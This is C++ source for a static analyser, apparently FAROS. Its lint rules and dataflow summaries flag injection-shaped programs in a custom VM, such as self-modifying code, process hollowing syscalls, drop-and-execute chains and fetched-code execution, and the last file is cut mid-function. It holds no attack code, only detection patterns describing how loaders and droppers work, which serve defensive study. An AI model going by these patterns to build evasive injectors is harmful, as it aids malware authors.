namespace faros::sa {

enum class ValKind : u8 {
  kUnknown = 0,  // lattice bottom: no path has defined the register yet
  kConst,        // known 32-bit constant
  kVaries,       // lattice top: runtime-dependent
};

struct AbsVal {
  ValKind kind = ValKind::kUnknown;
  u32 c = 0;               // valid when kind == kConst
  // (Transitively) derived from a memory load or a syscall result — a
  // value that only exists at runtime. The static mirror of a taint mark.
  bool from_load = false;

  bool operator==(const AbsVal&) const = default;

  static AbsVal konst(u32 v, bool loaded = false) {
    return AbsVal{ValKind::kConst, v, loaded};
  }
  static AbsVal varies(bool loaded = false) {
    return AbsVal{ValKind::kVaries, 0, loaded};
  }
};

/// Lattice join (path merge).
AbsVal join(const AbsVal& a, const AbsVal& b);

struct RegState {
  std::array<AbsVal, vm::kNumRegs> regs{};
  bool operator==(const RegState&) const = default;

  static RegState all_varies() {
    RegState s;
    s.regs.fill(AbsVal::varies());
    return s;
  }
};

/// Abstract-interprets one instruction at `va` over `st` in place.
/// Control-flow side effects (call clobbering) are edge semantics and live
/// in run_dataflow, not here.
void transfer(const vm::Instruction& insn, u32 va, RegState& st);

struct DataflowResult {
  /// Converged in-state per block (keyed by block start va).
  std::map<u32, RegState> block_in;
  /// Abstract value of rs1 at each kJr/kCallr site, keyed by site va.
  std::map<u32, AbsVal> indirect_value;
  /// Abstract base-register value at each load/store site, keyed by va.
  std::map<u32, AbsVal> mem_base_value;
  u32 iterations = 0;  // block visits until the fixpoint
};

/// Worklist fixpoint over `cfg`. Roots (entry, exports, resolved indirect
/// targets) start all-kVaries; a call terminator clobbers every register
/// along all outgoing edges (callee effects are unknown).
DataflowResult run_dataflow(const Cfg& cfg);

}  // namespace faros::sa
