#include "sa/rules.h"

#include <set>

#include "common/strings.h"
#include "os/syscalls.h"

namespace faros::sa {

const char* severity_name(Severity s) {
  switch (s) {
    case Severity::kInfo: return "info";
    case Severity::kWarn: return "warn";
    case Severity::kAlert: return "alert";
  }
  return "?";
}

u32 severity_weight(Severity s) {
  switch (s) {
    case Severity::kInfo: return 1;
    case Severity::kWarn: return 3;
    case Severity::kAlert: return 10;
  }
  return 0;
}

namespace {

using vm::Opcode;

/// Walks every instruction of every block with the converged register
/// state just before it executes.
template <typename Fn>
void for_each_insn_state(const RuleContext& ctx, Fn&& fn) {
  for (const auto& [start, blk] : ctx.cfg.blocks) {
    auto in = ctx.df.block_in.find(start);
    if (in == ctx.df.block_in.end()) continue;
    RegState st = in->second;
    for (size_t i = 0; i < blk.insns.size(); ++i) {
      u32 va = blk.insn_va(i);
      fn(va, blk.insns[i], st);
      transfer(blk.insns[i], va, st);
    }
  }
}

/// True when a dead region looks like staged code rather than data: a
/// non-trivial run of real instructions ending in control flow.
bool code_shaped(const DeadRegion& r) {
  return r.insns >= 4 && r.non_nop >= 4 && r.has_terminator;
}

/// Instruction at `va`, or null when no recovered block covers it.
const vm::Instruction* insn_at(const Cfg& cfg, u32 va) {
  const BasicBlock* blk = cfg.block_containing(va);
  if (!blk) return nullptr;
  return &blk->insns[(va - blk->start) / vm::kInsnSize];
}

/// Syscall sites proven to allocate executable memory in the program's own
/// address space: NtAllocateVirtualMemory with pid constant 0 (self) and a
/// constant protection including exec.
std::set<u32> self_exec_alloc_sites(const RuleContext& ctx) {
  std::set<u32> sites;
  for (const auto& [va, args] : ctx.df.syscall_args) {
    if (args[0].kind != ValKind::kConst ||
        args[0].c != static_cast<u32>(os::Sys::kNtAllocateVirtualMemory)) {
      continue;
    }
    if (args[1].kind != ValKind::kConst || args[1].c != 0) continue;
    if (args[3].kind != ValKind::kConst || !(args[3].c & os::kProtExec)) {
      continue;
    }
    sites.insert(va);
  }
  return sites;
}

/// True when the image opens its code channel itself: some NtConnect whose
/// endpoint is an image constant. A JIT host dials its own compiler
/// service; a loader that accepts code passively (bind+recv) or resolves
/// its endpoint at runtime (DNS-staged) has no such site.
bool has_const_endpoint_connect(const RuleContext& ctx) {
  for (const auto& [va, args] : ctx.df.syscall_args) {
    (void)va;
    if (args[0].kind == ValKind::kConst &&
        args[0].c == static_cast<u32>(os::Sys::kNtConnect) &&
        args[2].kind == ValKind::kConst) {
      return true;
    }
  }
  return false;
}

/// True when the computed store at `va` is one step of a JIT-style emit
/// loop: destination inside a self exec allocation, value a straight load
/// out of some *other* single staging buffer (tracked source, not the exec
/// allocation itself).
bool is_jit_copy_store(const RuleContext& ctx, u32 va, const AbsVal& base,
                       const std::set<u32>& exec_allocs) {
  if (!exec_allocs.count(base.origin)) return false;
  auto sv = ctx.df.store_value.find(va);
  if (sv == ctx.df.store_value.end()) return false;
  const AbsVal& val = sv->second;
  if (!val.from_load || val.origin == 0) return false;
  const vm::Instruction* src = insn_at(ctx.cfg, val.origin);
  if (!src || !vm::is_load(src->op)) return false;
  auto sb = ctx.df.mem_base_value.find(val.origin);
  if (sb == ctx.df.mem_base_value.end()) return false;
  u32 src_origin = sb->second.origin;
  return src_origin != 0 && !exec_allocs.count(src_origin);
}

// --- smc-write-to-code -----------------------------------------------------
// A store whose address is statically known and lands inside a reached
// basic block: the program overwrites bytes it can also execute — the
// self-modifying-code candidate FAROS later confirms dynamically via the
// tainted-fetch policy.
class WriteIntoCodeRule final : public Rule {
 public:
  const char* name() const override { return "smc-write-to-code"; }
  Severity severity() const override { return Severity::kAlert; }
  void run(const RuleContext& ctx, std::vector<SaFinding>& out) const override {
    for_each_insn_state(ctx, [&](u32 va, const vm::Instruction& insn,
                                 const RegState& st) {
      if (!vm::is_store(insn.op) || insn.op == Opcode::kPush) return;
      const AbsVal& base = st.regs[insn.rs1];
      if (base.kind != ValKind::kConst) return;
      u32 ea = base.c + insn.imm;
      if (!ctx.cfg.in_code(ea)) return;
      out.push_back(SaFinding{
          name(), severity(), va, vm::disassemble(insn),
          strf("store writes 0x%08x, inside reached code block 0x%08x", ea,
               ctx.cfg.block_containing(ea)->start)});
    });
  }
};

// --- store-then-indirect / self-jit-emitter --------------------------------
// The loader shape: the program writes memory at computed (non-constant)
// addresses, then transfers control through a register that is either
// memory-derived or provably outside the image — the static silhouette of
// "copy payload somewhere executable and jump to it".
//
// Interprocedural refinement: when the whole image matches the *declared*
// JIT-host silhouette — the indirect target originates at a self exec
// allocation, every computed store is a straight staging-buffer-to-exec
// copy, and the staging bytes arrive over a connection the image opens to
// a constant endpoint — the site downgrades to the warn-level
// "self-jit-emitter". A loader that accepts code passively (ipc_relay's
// backend binds and receives) or hides its endpoint behind NtResolveHost
// (the reverse_tcp_dns stager) keeps the full alert.
class StoreThenIndirectRule final : public Rule {
 public:
  const char* name() const override { return "store-then-indirect"; }
  Severity severity() const override { return Severity::kAlert; }
  void run(const RuleContext& ctx, std::vector<SaFinding>& out) const override {
    const std::set<u32> exec_allocs = self_exec_alloc_sites(ctx);
    u32 computed_stores = 0;
    bool jit_copy_only = true;  // every computed store is a staged copy
    for (const auto& [va, base] : ctx.df.mem_base_value) {
      const vm::Instruction* insn = insn_at(ctx.cfg, va);
      if (!insn || !vm::is_store(insn->op) || insn->op == Opcode::kPush) {
        continue;
      }
      if (base.kind == ValKind::kConst) continue;
      ++computed_stores;
      if (!is_jit_copy_store(ctx, va, base, exec_allocs)) {
        jit_copy_only = false;
      }
    }
    if (computed_stores == 0) return;
    const bool declared_channel = has_const_endpoint_connect(ctx);
    for (const auto& site : ctx.cfg.indirects) {
      auto it = ctx.df.indirect_value.find(site.va);
      if (it == ctx.df.indirect_value.end()) continue;
      const AbsVal& v = it->second;
      bool escapes_image =
          v.kind == ValKind::kConst && !ctx.cfg.contains(v.c);
      bool opaque = v.kind != ValKind::kConst && v.from_load;
      if (!escapes_image && !opaque) continue;
      const BasicBlock* blk = ctx.cfg.block_containing(site.va);
      const vm::Instruction& insn =
          blk->insns[(site.va - blk->start) / vm::kInsnSize];
      if (opaque && jit_copy_only && declared_channel &&
          exec_allocs.count(v.origin)) {
        out.push_back(SaFinding{
            "self-jit-emitter", Severity::kWarn, site.va,
            vm::disassemble(insn),
            strf("%s into a self exec allocation (site 0x%08x) filled by "
                 "%u staged copy store%s over a const-endpoint channel",
                 vm::opcode_name(site.op), v.origin, computed_stores,
                 computed_stores == 1 ? "" : "s")});
        continue;
      }
      out.push_back(SaFinding{
          name(), severity(), site.va, vm::disassemble(insn),
          strf("%s through %s register after %u computed store%s",
               vm::opcode_name(site.op),
               escapes_image ? "an out-of-image constant" : "a memory-derived",
               computed_stores, computed_stores == 1 ? "" : "s")});
    }
  }
};

// --- injection-syscall -----------------------------------------------------
// A reachable syscall site whose service number constant-folds to one of
// the cross-process injection primitives: writing another process's memory,
// redirecting its entry point, or unmapping its image (the hollowing step).
// The static twin of "imports WriteProcessMemory" — no benign corpus
// program has a reason to reach these.
class InjectionSyscallRule final : public Rule {
 public:
  const char* name() const override { return "injection-syscall"; }
  Severity severity() const override { return Severity::kAlert; }
  void run(const RuleContext& ctx, std::vector<SaFinding>& out) const override {
    for_each_insn_state(ctx, [&](u32 va, const vm::Instruction& insn,
                                 const RegState& st) {
      if (insn.op != Opcode::kSyscall) return;
      const AbsVal& num = st.regs[vm::R0];
      if (num.kind != ValKind::kConst) return;
      const auto sys = static_cast<os::Sys>(num.c);
      if (sys != os::Sys::kNtWriteVirtualMemory &&
          sys != os::Sys::kNtSetEntryPoint &&
          sys != os::Sys::kNtUnmapViewOfSection) {
        return;
      }
      out.push_back(SaFinding{
          name(), severity(), va, vm::disassemble(insn),
          strf("reachable %s syscall (cross-process injection primitive)",
               os::syscall_name(num.c))});
    });
  }
};

// --- drop-and-execute ------------------------------------------------------
// The dropper chain, statically: network bytes land in a tracked buffer,
// that same buffer is written through a file handle created for a constant
// path, and the same constant path is then handed to NtCreateProcess. No
// code pointer ever appears in this image — the "jump" is the process
// spawn — so store-then-indirect is blind to the shape. The handle and
// buffer links are interprocedural origin facts from the summary-driven
// dataflow: handle origin = the NtCreateFile site, buffer origin = the
// allocation a recv filled.
class DropAndExecuteRule final : public Rule {
 public:
  const char* name() const override { return "drop-and-execute"; }
  Severity severity() const override { return Severity::kAlert; }
  void run(const RuleContext& ctx, std::vector<SaFinding>& out) const override {
    std::set<u32> net_buffers;        // origins of recv-filled buffers
    std::map<u32, u32> create_paths;  // NtCreateFile site -> const path
    std::vector<std::pair<u32, u32>> spawns;  // NtCreateProcess site, path
    for (const auto& [va, args] : ctx.df.syscall_args) {
      if (args[0].kind != ValKind::kConst) continue;
      switch (static_cast<os::Sys>(args[0].c)) {
        case os::Sys::kNtRecv:
          if (args[2].kind != ValKind::kConst && args[2].origin != 0) {
            net_buffers.insert(args[2].origin);
          }
          break;
        case os::Sys::kNtCreateFile:
          if (args[1].kind == ValKind::kConst) create_paths[va] = args[1].c;
          break;
        case os::Sys::kNtCreateProcess:
          if (args[1].kind == ValKind::kConst) {
            spawns.emplace_back(va, args[1].c);
          }
          break;
        default: break;
      }
    }
    if (net_buffers.empty() || create_paths.empty() || spawns.empty()) return;
    std::set<u32> dropped_paths;  // const paths written with network bytes
    for (const auto& [va, args] : ctx.df.syscall_args) {
      (void)va;
      if (args[0].kind != ValKind::kConst ||
          args[0].c != static_cast<u32>(os::Sys::kNtWriteFile)) {
        continue;
      }
      auto handle = create_paths.find(args[1].origin);
      if (handle == create_paths.end()) continue;
      if (args[2].kind == ValKind::kConst ||
          !net_buffers.count(args[2].origin)) {
        continue;
      }
      dropped_paths.insert(handle->second);
    }
    for (const auto& [va, path] : spawns) {
      if (!dropped_paths.count(path)) continue;
      const vm::Instruction* insn = insn_at(ctx.cfg, va);
      out.push_back(SaFinding{
          name(), severity(), va, insn ? vm::disassemble(*insn) : "",
          strf("NtCreateProcess on path 0x%08x after network bytes were "
               "written to the same path",
               path)});
    }
  }
};

// --- fetched-code-exec -----------------------------------------------------
// An indirect branch into a self executable allocation whose pointer was
// handed to a kernel service while the program's own stores never fill
// that allocation: the kernel delivered the code (atom fetch, recv, file
// read) and the image runs it sight unseen. The atom-bombing victim pump
// is exactly this — NtGetAtom writes the payload into the exec buffer, so
// there is no copy loop for store-then-indirect to count.
class FetchedCodeExecRule final : public Rule {
 public:
  const char* name() const override { return "fetched-code-exec"; }
  Severity severity() const override { return Severity::kAlert; }
  void run(const RuleContext& ctx, std::vector<SaFinding>& out) const override {
    const std::set<u32> exec_allocs = self_exec_alloc_sites(ctx);
    if (exec_allocs.empty()) return;
    // Exec allocations the image fills itself through computed stores.
    std::set<u32> self_filled;
    for (const auto& [va, base] : ctx.df.mem_base_value) {
      const vm::Instruction* insn = insn_at(ctx.cfg, va);
      if (!insn || !vm::is_store(insn->op)) continue;
      if (base.kind != ValKind::kConst && exec_allocs.count(base.origin)) {
        self_filled.insert(base.origin);
      }
    }
    // Exec allocations whose pointer later reaches a syscall argument;
    // remember the first such service per allocation for the report.
    std::map<u32, u32> kernel_filled;  // alloc site -> syscall number
    for (const auto& [va, args] : ctx.df.syscall_args) {
      for (int r = 1; r <= 4; ++r) {
        const AbsVal& arg = args[r];
        if (arg.kind == ValKind::kConst || arg.origin == va) continue;
        if (!exec_allocs.count(arg.origin)) continue;
        if (args[0].kind != ValKind::kConst) continue;
        kernel_filled.emplace(arg.origin, args[0].c);
      }
    }
    for (const auto& site : ctx.cfg.indirects) {
      auto it = ctx.df.indirect_value.find(site.va);
      if (it == ctx.df.indirect_value.end()) continue;
      const AbsVal& v = it->second;
      if (v.kind == ValKind::kConst) continue;
      auto fill = kernel_filled.find(v.origin);
      if (fill == kernel_filled.end() || self_filled.count(v.origin)) {
        continue;
      }
      const vm::Instruction* insn = insn_at(ctx.cfg, site.va);
      out.push_back(SaFinding{
          name(), severity(), site.va, insn ? vm::disassemble(*insn) : "",
          strf("%s into a self exec allocation (site 0x%08x) passed to %s "
               "and never written by this image's stores",
               vm::opcode_name(site.op), v.origin,
               os::syscall_name(fill->second))});
    }
  }
};

// --- syscall-unresolved-flow -----------------------------------------------
// Syscalls reachable while the CFG still contains unresolved indirect
// branches: the analyst cannot statically bound what the program asks the
// kernel for. One finding per image, carrying the counts.
class SyscallUnresolvedFlowRule final : public Rule {
 public:
  const char* name() const override { return "syscall-unresolved-flow"; }
  Severity severity() const override { return Severity::kWarn; }
  void run(const RuleContext& ctx, std::vector<SaFinding>& out) const override {
    u32 unresolved = 0;
    for (const auto& site : ctx.cfg.indirects) {
      if (!site.resolved) ++unresolved;
    }
    if (unresolved == 0) return;
    u32 syscalls = 0;
    u32 first_va = 0;
    std::string first_disasm;
    for (const auto& [start, blk] : ctx.cfg.blocks) {
      (void)start;
      for (size_t i = 0; i < blk.insns.size(); ++i) {
        if (blk.insns[i].op != Opcode::kSyscall) continue;
        if (syscalls == 0) {
          first_va = blk.insn_va(i);
          first_disasm = vm::disassemble(blk.insns[i]);
        }
        ++syscalls;
      }
    }
    if (syscalls == 0) return;
    out.push_back(SaFinding{
        name(), severity(), first_va, first_disasm,
        strf("%u syscall site%s reachable with %u unresolved indirect "
             "branch%s",
             syscalls, syscalls == 1 ? "" : "s", unresolved,
             unresolved == 1 ? "" : "es")});
  }
};

// --- embedded-code-blob ----------------------------------------------------
// An unreachable region that decodes as real code ending in control flow:
// the classic staged payload (the hollowing loader carries its keylogger
// exactly like this). Dead-code-as-data stays in the info-level rule below.
class EmbeddedCodeBlobRule final : public Rule {
 public:
  const char* name() const override { return "embedded-code-blob"; }
  Severity severity() const override { return Severity::kWarn; }
  void run(const RuleContext& ctx, std::vector<SaFinding>& out) const override {
    for (const DeadRegion& r : ctx.cfg.dead_regions) {
      if (!code_shaped(r)) continue;
      out.push_back(SaFinding{
          name(), severity(), r.start, "",
          strf("unreachable code-shaped region: %u insns (%u non-nop), "
               "contains a terminator",
               r.insns, r.non_nop)});
    }
  }
};

// --- stack-imbalance -------------------------------------------------------
// Per function (the entry point plus every call target), compare push and
// pop counts over the function's intraprocedural blocks. Pop-heavy bodies
// are the stack-pivot / ROP-gadget shape: they consume return addresses
// they never created.
class StackImbalanceRule final : public Rule {
 public:
  const char* name() const override { return "stack-imbalance"; }
  Severity severity() const override { return Severity::kWarn; }
  void run(const RuleContext& ctx, std::vector<SaFinding>& out) const override {
    std::set<u32> entries;
    if (ctx.cfg.blocks.count(ctx.cfg.entry)) entries.insert(ctx.cfg.entry);
    for (const auto& exp : ctx.img.exports) {
      u32 va = ctx.img.base_va + exp.offset;
      if (ctx.cfg.blocks.count(va)) entries.insert(va);
    }
    for (const auto& [start, blk] : ctx.cfg.blocks) {
      (void)start;
      for (const Edge& e : blk.succs) {
        if (e.kind == EdgeKind::kCall) entries.insert(e.target);
      }
    }
    for (u32 entry : entries) {
      // Intraprocedural closure: follow fall/taken/indirect edges only.
      std::set<u32> body;
      std::vector<u32> stack{entry};
      while (!stack.empty()) {
        u32 va = stack.back();
        stack.pop_back();
        if (!body.insert(va).second) continue;
        auto it = ctx.cfg.blocks.find(va);
        if (it == ctx.cfg.blocks.end()) continue;
        for (const Edge& e : it->second.succs) {
          if (e.kind != EdgeKind::kCall) stack.push_back(e.target);
        }
      }
      u32 pushes = 0, pops = 0;
      for (u32 va : body) {
        auto it = ctx.cfg.blocks.find(va);
        if (it == ctx.cfg.blocks.end()) continue;
        for (const vm::Instruction& insn : it->second.insns) {
          if (insn.op == Opcode::kPush) ++pushes;
          if (insn.op == Opcode::kPop) ++pops;
        }
      }
      if (pops > pushes) {
        out.push_back(SaFinding{
            name(), severity(), entry, "",
            strf("function at 0x%08x pops %u but pushes %u "
                 "(stack-pivot shape)",
                 entry, pops, pushes)});
      }
    }
  }
};

// --- branch-out-of-image ---------------------------------------------------
// A direct branch or call whose encoded target lies outside the image blob:
// either a corrupt image or control flow into memory only an injection
// would populate.
class BranchOutOfImageRule final : public Rule {
 public:
  const char* name() const override { return "branch-out-of-image"; }
  Severity severity() const override { return Severity::kWarn; }
  void run(const RuleContext& ctx, std::vector<SaFinding>& out) const override {
    for (u32 target : ctx.cfg.escaping_targets) {
      out.push_back(SaFinding{
          name(), severity(), target, "",
          strf("direct control transfer targets 0x%08x, outside "
               "[0x%08x, 0x%08x)",
               target, ctx.cfg.base, ctx.cfg.base + ctx.cfg.size)});
    }
  }
};

// --- dead-code -------------------------------------------------------------
// Unreachable decodable regions that do not qualify as embedded code blobs;
// padding and data that happens to decode land here, so this stays info.
class DeadCodeRule final : public Rule {
 public:
  const char* name() const override { return "dead-code"; }
  Severity severity() const override { return Severity::kInfo; }
  void run(const RuleContext& ctx, std::vector<SaFinding>& out) const override {
    for (const DeadRegion& r : ctx.cfg.dead_regions) {
      if (code_shaped(r)) continue;  // claimed by embedded-code-blob
      if (r.insns < 4 || r.non_nop == 0) continue;
      out.push_back(SaFinding{
          name(), severity(), r.start, "",
          strf("unreachable decodable region: %u insns (%u non-nop)",
               r.insns, r.non_nop)});
    }
  }
};

}  // namespace

const std::vector<std::unique_ptr<Rule>>& builtin_rules() {
  static const std::vector<std::unique_ptr<Rule>>* rules = [] {
    auto* v = new std::vector<std::unique_ptr<Rule>>();
    v->push_back(std::make_unique<WriteIntoCodeRule>());
    v->push_back(std::make_unique<StoreThenIndirectRule>());
    v->push_back(std::make_unique<InjectionSyscallRule>());
    v->push_back(std::make_unique<DropAndExecuteRule>());
    v->push_back(std::make_unique<FetchedCodeExecRule>());
    v->push_back(std::make_unique<SyscallUnresolvedFlowRule>());
    v->push_back(std::make_unique<EmbeddedCodeBlobRule>());
    v->push_back(std::make_unique<StackImbalanceRule>());
    v->push_back(std::make_unique<BranchOutOfImageRule>());
    v->push_back(std::make_unique<DeadCodeRule>());
    return v;
  }();
  return *rules;
}

std::vector<SaFinding> run_rules(const RuleContext& ctx) {
  std::vector<SaFinding> out;
  for (const auto& rule : builtin_rules()) {
    rule->run(ctx, out);
  }
  return out;
}

}  // namespace faros::sa
