// Lint-rule engine over the static analysis results: each Rule inspects
// the CFG + dataflow facts of one image and emits findings shaped like the
// dynamic engine's core::Finding (site va, disassembly, human detail) so an
// analyst can read both reports side by side. Rules are stateless and
// deterministic — same image, same findings, same order.
#pragma once

#include <memory>
#include <string>
#include <vector>

#include "sa/dataflow.h"

namespace faros::sa {

enum class Severity : u8 {
  kInfo = 0,  // context for the analyst
  kWarn,      // suspicious shape, common in injectors and JIT hosts alike
  kAlert,     // injection-shaped: self-modification / control-flow escape
};

const char* severity_name(Severity s);

/// Risk weight per severity (info 1, warn 3, alert 10). A program whose
/// summed weight reaches the analyzer threshold is "static flagged".
u32 severity_weight(Severity s);

/// Static analogue of core::Finding.
struct SaFinding {
  std::string rule;
  Severity severity = Severity::kInfo;
  u32 va = 0;          // offending instruction / region start
  std::string disasm;  // site disassembly (empty for region findings)
  std::string detail;  // what the rule proved, with the numbers

  bool operator==(const SaFinding&) const = default;
};

struct RuleContext {
  const os::Image& img;
  const Cfg& cfg;
  const DataflowResult& df;
};

class Rule {
 public:
  virtual ~Rule() = default;
  virtual const char* name() const = 0;
  virtual Severity severity() const = 0;
  /// Appends this rule's findings for one image, in ascending va order.
  virtual void run(const RuleContext& ctx,
                   std::vector<SaFinding>& out) const = 0;
};

/// The built-in registry, in stable registration order:
///   smc-write-to-code         (alert) store into statically reached code
///   store-then-indirect       (alert) computed stores + jump out of image;
///                                     downgrades to the warn-level
///                                     "self-jit-emitter" when the image
///                                     matches the declared JIT-host shape
///                                     (const-endpoint code channel, pure
///                                     staging-to-exec copy stores)
///   injection-syscall         (alert) WriteVirtualMemory / SetEntryPoint /
///                                     UnmapViewOfSection reachable
///   drop-and-execute          (alert) network bytes written to a const
///                                     path that is then NtCreateProcess'd
///   fetched-code-exec         (alert) indirect branch into a self exec
///                                     allocation only the kernel wrote
///   syscall-unresolved-flow   (warn)  syscalls behind opaque control flow
///   embedded-code-blob        (warn)  unreachable code-shaped region
///   stack-imbalance           (warn)  pop-heavy function (pivot shape)
///   branch-out-of-image       (warn)  direct branch leaves the image
///   dead-code                 (info)  unreachable decodable region
const std::vector<std::unique_ptr<Rule>>& builtin_rules();

/// Runs every built-in rule over `ctx`; findings grouped by rule in
/// registry order, ascending va within a rule.
std::vector<SaFinding> run_rules(const RuleContext& ctx);

}  // namespace faros::sa
