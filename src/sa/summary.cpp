#include "sa/summary.h"

#include <algorithm>

namespace faros::sa {

namespace {

using vm::Opcode;

u32 merge_origin(u32 a, u32 b) {
  if (a == b) return a;
  if (a == 0) return b;
  if (b == 0) return a;
  return 0;
}

/// Summary-domain register state.
struct SumState {
  std::array<SumVal, vm::kNumRegs> regs{};
  bool operator==(const SumState&) const = default;

  static SumState identity() {
    SumState s;
    for (u32 i = 0; i < vm::kNumRegs; ++i) {
      s.regs[i] = SumVal::param(static_cast<u8>(i));
    }
    return s;
  }
  static SumState all_varies() {
    SumState s;
    s.regs.fill(SumVal::varies());
    return s;
  }
};

/// rd = a op b in the summary domain. kParam survives additive arithmetic
/// against constants, so stack adjustment and field offsets stay symbolic.
SumVal fold_sum(Opcode op, const SumVal& a, const SumVal& b) {
  bool loaded = a.from_load || b.from_load;
  bool add = op == Opcode::kAdd || op == Opcode::kAddi;
  bool sub = op == Opcode::kSub || op == Opcode::kSubi;
  if (a.kind == SumKind::kParam && b.kind == SumKind::kConst && (add || sub)) {
    SumVal r = SumVal::param(a.reg, add ? a.c + b.c : a.c - b.c);
    r.from_load = loaded;
    return r;
  }
  if (a.kind == SumKind::kConst && b.kind == SumKind::kParam && add) {
    SumVal r = SumVal::param(b.reg, b.c + a.c);
    r.from_load = loaded;
    return r;
  }
  if (a.kind == SumKind::kConst && b.kind == SumKind::kConst) {
    AbsVal f = fold_const(op, AbsVal::konst(a.c, a.from_load),
                          AbsVal::konst(b.c, b.from_load));
    if (f.kind == ValKind::kConst) return SumVal::konst(f.c, f.from_load);
    return SumVal::varies(f.from_load, f.origin);
  }
  return SumVal::varies(loaded, merge_origin(a.origin, b.origin));
}

}  // namespace

SumVal sum_join(const SumVal& a, const SumVal& b) {
  if (a.kind == SumKind::kBot) {
    SumVal r = b;
    r.from_load = a.from_load || b.from_load;
    return r;
  }
  if (b.kind == SumKind::kBot) {
    SumVal r = a;
    r.from_load = a.from_load || b.from_load;
    return r;
  }
  bool loaded = a.from_load || b.from_load;
  if (a.kind == b.kind) {
    if (a.kind == SumKind::kConst && a.c == b.c) {
      return SumVal::konst(a.c, loaded);
    }
    if (a.kind == SumKind::kParam && a.reg == b.reg && a.c == b.c) {
      SumVal r = SumVal::param(a.reg, a.c);
      r.from_load = loaded;
      return r;
    }
  }
  return SumVal::varies(loaded, merge_origin(a.origin, b.origin));
}

AbsVal apply_sum(const SumVal& v, const RegState& at_call) {
  switch (v.kind) {
    case SumKind::kConst: return AbsVal::konst(v.c, v.from_load);
    case SumKind::kParam: {
      AbsVal r = fold_const(Opcode::kAddi, at_call.regs[v.reg],
                            AbsVal::konst(v.c));
      r.from_load = r.from_load || v.from_load;
      return r;
    }
    case SumKind::kVaries: return AbsVal::varies(v.from_load, v.origin);
    case SumKind::kBot: break;  // unreached return path; be conservative
  }
  return AbsVal::varies(v.from_load, v.origin);
}

namespace {

/// Maps a callee write fact through the caller's state at the call.
WriteFact apply_write(const WriteFact& w, const SumState& at_call) {
  if (w.kind != WriteFact::kParamRel) return w;
  const SumVal& base = at_call.regs[w.reg];
  switch (base.kind) {
    case SumKind::kConst: return WriteFact{WriteFact::kConstEa, 0,
                                           base.c + w.ea};
    case SumKind::kParam: return WriteFact{WriteFact::kParamRel, base.reg,
                                           base.c + w.ea};
    default: return WriteFact{WriteFact::kUnknown, 0, 0};
  }
}

void add_write(FuncSummary& s, const WriteFact& w) {
  if (s.writes_unknown) return;
  if (w.kind == WriteFact::kUnknown) {
    s.writes_unknown = true;
    s.writes.clear();
    return;
  }
  if (std::find(s.writes.begin(), s.writes.end(), w) != s.writes.end()) return;
  if (s.writes.size() >= kMaxWriteFacts) {
    s.writes_unknown = true;
    s.writes.clear();
    return;
  }
  s.writes.push_back(w);
}

/// The conservative result for a function whose control flow the analysis
/// cannot bound: callers assume every effect.
FuncSummary clobbered(u32 entry) {
  FuncSummary s;
  s.entry = entry;
  s.returns = true;
  s.clobber_all = true;
  s.can_store = s.can_load = s.can_syscall = true;
  s.inert = false;
  s.writes_unknown = true;
  return s;
}

/// True when `blk`'s terminator has every edge descent would have
/// attached — a dropped edge (escaping / misaligned target) or a missing
/// terminator (truncated decode) makes the body's flow unbounded.
bool block_flow_closed(const Cfg& cfg, const BasicBlock& blk) {
  if (blk.insns.empty()) return false;
  const vm::Instruction& term = blk.terminator();
  if (!vm::ends_block(term.op)) {
    // Not a real terminator: the block either fell into an existing block
    // (fall edge present) or decode stopped at data / the blob end.
    return blk.succs.size() == 1 && blk.succs[0].kind == EdgeKind::kFall;
  }
  auto count = [&](EdgeKind k) {
    u32 n = 0;
    for (const Edge& e : blk.succs) {
      if (e.kind == k) ++n;
    }
    return n;
  };
  switch (term.op) {
    case Opcode::kJmp: return count(EdgeKind::kTaken) == 1;
    case Opcode::kBeq:
    case Opcode::kBne:
    case Opcode::kBlt:
    case Opcode::kBge:
    case Opcode::kBltu:
    case Opcode::kBgeu:
      return count(EdgeKind::kTaken) == 1 && count(EdgeKind::kFall) == 1;
    case Opcode::kJr: {
      for (const IndirectSite& s : cfg.indirects) {
        if (s.va == blk.insn_va(blk.insns.size() - 1)) {
          return s.resolved && count(EdgeKind::kIndirect) == 1;
        }
      }
      return false;
    }
    case Opcode::kCall:
    case Opcode::kCallr:
      // The callee side is the summary's job; intraprocedural flow only
      // needs the fall-through to be present.
      return count(EdgeKind::kFall) == 1;
    case Opcode::kSyscall:
    case Opcode::kBrk: return count(EdgeKind::kFall) == 1;
    case Opcode::kRet:
    case Opcode::kHalt: return true;
    default: return false;
  }
}

/// Computes one function's summary against the current table (callees in
/// the same SCC may still hold their previous iterate).
FuncSummary summarize(const Cfg& cfg, const Function& fn,
                      const SummaryTable& table) {
  if (!cfg.blocks.count(fn.entry)) return clobbered(fn.entry);
  for (u32 bva : fn.blocks) {
    auto it = cfg.blocks.find(bva);
    if (it == cfg.blocks.end() || !block_flow_closed(cfg, it->second)) {
      return clobbered(fn.entry);
    }
  }

  FuncSummary s;
  s.entry = fn.entry;

  std::map<u32, SumState> block_in;
  for (u32 bva : fn.blocks) block_in[bva];  // all kBot
  block_in[fn.entry] = SumState::identity();

  std::array<SumVal, vm::kNumRegs> ret_out{};
  bool saw_ret = false;

  std::set<u32> worklist{fn.entry};
  u32 budget = 64 * static_cast<u32>(fn.blocks.size()) + 64;
  while (!worklist.empty()) {
    if (budget-- == 0) return clobbered(fn.entry);
    u32 bva = *worklist.begin();
    worklist.erase(worklist.begin());
    const BasicBlock& blk = cfg.blocks.at(bva);

    SumState st = block_in.at(bva);
    for (size_t i = 0; i < blk.insns.size(); ++i) {
      const vm::Instruction& insn = blk.insns[i];
      u32 va = blk.insn_va(i);
      u32 next = va + vm::kInsnSize;
      auto& r = st.regs;
      switch (insn.op) {
        case Opcode::kMovi: r[insn.rd] = SumVal::konst(insn.imm); break;
        case Opcode::kMov: r[insn.rd] = r[insn.rs1]; break;
        case Opcode::kAddPc:
          r[insn.rd] = SumVal::konst(next + insn.imm);
          break;

        case Opcode::kLd8:
        case Opcode::kLd16:
        case Opcode::kLd32:
          s.can_load = true;
          s.inert = false;
          r[insn.rd] = SumVal::varies(true, va);
          break;

        case Opcode::kSt8:
        case Opcode::kSt16:
        case Opcode::kSt32: {
          s.can_store = true;
          s.inert = false;
          SumVal ea = fold_sum(Opcode::kAddi, r[insn.rs1],
                               SumVal::konst(insn.imm));
          if (ea.kind == SumKind::kConst) {
            add_write(s, WriteFact{WriteFact::kConstEa, 0, ea.c});
          } else if (ea.kind == SumKind::kParam) {
            add_write(s, WriteFact{WriteFact::kParamRel, ea.reg, ea.c});
          } else {
            add_write(s, WriteFact{WriteFact::kUnknown, 0, 0});
